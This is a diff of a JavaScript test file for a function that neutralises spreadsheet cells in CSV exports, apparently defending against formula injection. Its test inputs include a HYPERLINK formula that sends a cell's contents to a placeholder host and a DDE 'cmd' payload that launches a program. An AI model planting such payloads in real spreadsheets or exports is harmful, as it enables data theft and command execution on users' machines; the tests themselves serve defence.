@@ -8,7 +8,7 @@ describe('spreadsheet cells', () => {
   it.each([
     ['=HYPERLINK("http://x/?c="&F2,"Ver pedido")', `'=HYPERLINK("http://x/?c="&F2,"Ver pedido")`],
     ['+55 11 98765-4321', "'+55 11 98765-4321"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
@@ -33,7 +33,15 @@ describe('spreadsheet cells', () => {
   });
 
   it('writes CSV with text neutralised and numbers as numbers', () => {
-    const csv = spreadsheetCsv([['nome', 'estoque', 'saldo'], ['=1+1', -3, '-12,50'], [null, 0, undefined]]);
-    expect(parse(csv, { delimiter: ';' })).toEqual([['nome', 'estoque', 'saldo'], ["'=1+1", '-3', '-12,50'], ['', '0', '']]);
+    const csv = spreadsheetCsv([
+      ['nome', 'estoque', 'saldo'],
+      ['=1+1', -3, '-12,50'],
+      [null, 0, undefined],
+    ]);
+    expect(parse(csv, { delimiter: ';' })).toEqual([
+      ['nome', 'estoque', 'saldo'],
+      ["'=1+1", '-3', '-12,50'],
+      ['', '0', ''],
+    ]);
   });
 });
